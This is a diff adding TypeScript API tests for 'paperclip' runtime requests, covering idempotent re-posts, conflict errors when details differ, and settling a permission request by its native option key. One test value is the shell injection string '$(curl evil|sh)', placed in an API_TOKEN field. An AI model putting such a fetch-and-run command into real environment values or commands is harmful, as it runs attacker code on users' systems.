@@ -765,6 +765,47 @@ describe('follow-ups that need more than one native key', () => {
     expect(first.status, first.text).toBe(201);
     expect((await t.api.post('/v1/formats/paperclip/requests', withKey('k-1'))).status).toBe(200);
     expectError(await t.api.post('/v1/formats/paperclip/requests', withKey('k-2')), 409, 'native_conflict');
+
+    // And for v1 requests: an input's details, a permission's tool.
+    const v1 = (type: 'input' | 'permission', requestId: string, details: Record<string, unknown>) => ({
+      schema: 'paperclip.runtime_request.v1',
+      requestKind: 'runtime',
+      requestId,
+      type,
+      status: 'pending',
+      prompt: type === 'input' ? 'Which region?' : 'Use the tool?',
+      choices:
+        type === 'input'
+          ? [{ key: 'eu', label: 'EU' }]
+          : [
+              { key: 'allow', label: 'Allow' },
+              { key: 'deny', label: 'Deny' },
+            ],
+      details,
+    });
+    const input = await t.api.post('/v1/formats/paperclip/requests', v1('input', 'v1-in', { env: { API_TOKEN: 'k-1' } }));
+    expect(input.status, input.text).toBe(201);
+    expect((await t.api.post('/v1/formats/paperclip/requests', v1('input', 'v1-in', { env: { API_TOKEN: 'k-1' } }))).status).toBe(200);
+    expectError(await t.api.post('/v1/formats/paperclip/requests', v1('input', 'v1-in', { env: { API_TOKEN: '$(curl evil|sh)' } })), 409, 'native_conflict');
+    const tool = await t.api.post('/v1/formats/paperclip/requests', v1('permission', 'v1-tool', { toolName: 'read_file' }));
+    expect(tool.body.request.tool).toBe('read_file');
+    expectError(await t.api.post('/v1/formats/paperclip/requests', v1('permission', 'v1-tool', { toolName: 'delete_repository' })), 409, 'native_conflict');
+  });
+
+  it('a runtime_request.resolved names an option by its native key only: a record id standing for another key settles nothing (400)', async () => {
+    t = await startTestServer({}, { adapters: ALL_ADAPTERS });
+    const fx = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'v1-permission-native-keys.json'), 'utf8'));
+    const created = await t.api.post('/v1/formats/paperclip/requests', fx.frame);
+    expect(created.status, created.text).toBe(201);
+    expect(created.body.request.options.map((o: { id: string }) => o.id)).toEqual(['o2', 'o1', 'deny']);
+    const resolved = JSON.parse(readFileSync(join(FIXTURES, 'paperclip', 'followup-resolved-decline.json'), 'utf8')).frame;
+    const settle = (action: string) =>
+      t.api.post('/v1/formats/paperclip/events', { ...resolved, payload: { ...resolved.payload, requestId: fx.frame.requestId, action } });
+    expectError(await settle('o1'), 400, 'invalid_frame', 'payload.action');
+    expect((await show(t.api, created.body.request.id)).status).toBe('pending');
+    const res = await settle('allow once');
+    expect(res.status, res.text).toBe(200);
+    expect(res.body.request).toMatchObject({ status: 'approved', decision: { option: 'o2' } });
   });
 
   it('native ids that split differently at a colon are different requests, and follow-ups find each (PaperClip run and request, Ask session and id)', async () => {
